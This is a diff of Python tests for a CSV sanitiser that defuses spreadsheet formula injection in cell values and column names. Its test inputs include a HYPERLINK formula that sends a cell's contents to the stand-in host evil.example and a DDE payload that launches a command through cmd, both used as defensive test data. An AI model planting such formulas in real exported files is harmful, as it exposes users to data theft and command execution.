@@ -196,7 +196,7 @@ def cells(text, separator):
     ['=HYPERLINK("http://evil.example/?"&A1;"more")', "=1+cmd|' /C calc'!A0", "+A1", "-2+A1",
      "@SUM(A1)", "= HYPERLINK(A1)", "＝A1", "=-A1"],
 )  # fmt: skip
-def test_a_formula_is_none_wherever_it_stands(before, lure):
+def test_a_formula_is_defused_wherever_it_stands(before, lure):
     text = to_csv(
         pd.DataFrame({f"{before}{lure}": [f"{before}{lure}"], "next": ["plain"]})
     )
@@ -217,8 +217,13 @@ def test_ordinary_texts_stay_as_they_are(text):
     assert harmless(text) == text
 
 
-def test_what_is_no_text_stays_and_a_row_is_marked_in_names_and_cells():
-    row = {"=a": "x;=b", "n": -1.5, "none": None, "flag": True}
+def test_numbers_stay_and_formulas_of_a_row_are_defused_in_names_and_cells():
+    row = {
+        "=a": "x;=b",
+        "n": -1.5,
+        "none": None,
+        "flag": True,
+    }
     assert harmless_row(row) == {
         "'=a": "x;'=b",
         "n": -1.5,
